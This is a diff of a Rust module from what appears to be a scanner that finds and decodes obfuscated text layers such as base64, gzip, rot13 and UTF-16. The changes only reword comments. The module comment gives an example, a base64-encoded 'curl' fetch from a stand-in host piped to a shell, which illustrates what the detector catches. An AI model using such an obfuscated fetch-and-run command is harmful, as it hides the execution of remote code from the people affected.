@@ -1,6 +1,6 @@
-//! Texts that are wrapped inside a text.
+//! Encoded text inside a text.
 //!
-//! What a script hides it hides in layers: base64 of gzip of escapes. We search for anything that *could* be an
+//! A script hides text in layers: base64 of gzip of escapes. We search for anything that *could* be an
 //! encoding, decode it, and keep it only if the result [reads as language or code](super::plausible), or contains
 //! a further layer that does. So a digest, a UUID, a picture or a long identifier costs one short attempt and
 //! is never mentioned. For example `echo Y3VybCBodHRwOi8veC55L3o= | base64 -d | sh` contains one piece,
@@ -17,7 +17,7 @@ use aho_corasick::AhoCorasick;
 use super::plausible::{self, TELL_TALES};
 use super::{codec, numbers};
 
-/// How a text was wrapped.
+/// How a text was encoded.
 #[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord)]
 pub(crate) enum TextEncoding {
     /// Base64, either alphabet.
@@ -42,9 +42,9 @@ pub(crate) enum TextEncoding {
     Entity,
     /// `99, 117, 114`, `chr(99)+chr(117)`.
     CharCodes,
-    /// Each letter thirteen places on.
+    /// Each letter rotated by thirteen places.
     Rot13,
-    /// Back to front.
+    /// Reversed.
     Reversed,
     /// UTF-16, as PowerShell's encoded commands are.
     Utf16,
@@ -52,18 +52,18 @@ pub(crate) enum TextEncoding {
     Deflate,
 }
 
-/// A text that was found inside another.
+/// A text that was found inside another one.
 #[derive(Clone, Debug, PartialEq, Eq)]
 pub(crate) struct DecodedText {
-    /// Where in the outermost text.
+    /// Its position in the outermost text.
     pub at: Range<usize>,
-    /// How it was wrapped, outermost first.
+    /// Its encodings, outermost first.
     pub how: Vec<TextEncoding>,
     /// The decoded text.
     pub text: String,
 }
 
-/// How much may be decoded. Shared by calls, so that many small files can't do what one large may not.
+/// The decoding budget. Shared by calls, so that many small files can't exceed the limit of a large one.
 #[derive(Clone, Debug, PartialEq, Eq)]
 pub(crate) struct DecodeBudget {
     /// Bytes of output that are left.
@@ -91,9 +91,9 @@ impl Default for DecodeBudget {
 const SHORTEST: usize = 16;
 /// Fewer digits are never taken for hexadecimal text.
 const SHORTEST_HEX: usize = 20;
-/// What a long candidate is judged by.
+/// How many characters of a long candidate are judged.
 const PROBE: usize = 128;
-/// A line that is shorter is not part of a wrapped block.
+/// A shorter line is not part of an encoded block.
 const SHORTEST_LINE: usize = 24;
 /// The distance around a characteristic word in which rotated and reversed text is searched.
 const REACH: usize = 2048;
@@ -117,7 +117,7 @@ pub(crate) fn decoded(text: &str, budget: &mut DecodeBudget) -> Vec<DecodedText>
 struct DecodeSearch<'t, 'b> {
     text: &'t str,
     how: Vec<TextEncoding>,
-    /// Of a layer below: where the outermost one is.
+    /// In an inner layer: the position of the outermost one.
     outer: Option<Range<usize>>,
     budget: &'b mut DecodeBudget,
     found: Vec<DecodedText>,
@@ -143,7 +143,7 @@ impl DecodeSearch<'_, '_> {
         }
     }
 
-    /// Takes decoded bytes, unwraps compression, and keeps the text if it is plausible.
+    /// Unwraps compression of decoded bytes, and keeps the text if it is plausible.
     fn offer(&mut self, at: Range<usize>, how: TextEncoding, mut bytes: Vec<u8>) -> bool {
         let mut how = vec![how];
         if let Some(inflated) = codec::inflate(&bytes, self.budget.bytes.min(1024 * 1024)) {
@@ -302,7 +302,7 @@ impl DecodeSearch<'_, '_> {
         decode(run).is_some_and(|bytes| self.offer(at.clone(), how, bytes))
     }
 
-    /// Quoted words that have signs which base64 has not: perhaps base85.
+    /// Quoted words with signs that base64 does not have: perhaps base85.
     fn literals(&mut self) {
         let text = self.text;
         let mut start = 0;
@@ -370,7 +370,7 @@ impl DecodeSearch<'_, '_> {
 
 static ROTATED: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| finder(&[rotated]));
 static REVERSED: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| finder(&[reversed]));
-/// Both at once, for texts that have neither.
+/// Both in one pass, for texts that contain neither.
 static TURNED: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| finder(&[rotated, reversed]));
 
 fn rotated(word: &str) -> String {
@@ -391,7 +391,7 @@ fn finder(turns: &[fn(&str) -> String]) -> Option<AhoCorasick> {
         .ok()
 }
 
-/// Asked for each byte of each text.
+/// Called for each byte of each text.
 const BASE64: [bool; 256] = {
     let mut table = [false; 256];
     let mut byte = 0_u8;
@@ -443,7 +443,7 @@ fn run(bytes: &[u8], start: usize) -> Range<usize> {
     start..start + length + padding
 }
 
-/// Where the next line of a wrapped literal begins: after a line end, with quotes and joining signs around it.
+/// The start of the next line of an encoded literal: after a line end, with quotes and joining signs around it.
 fn continued(bytes: &[u8], end: usize) -> Option<usize> {
     const WIDEST: usize = 80;
     let rest = bytes.get(end..bytes.len().min(end + WIDEST))?;
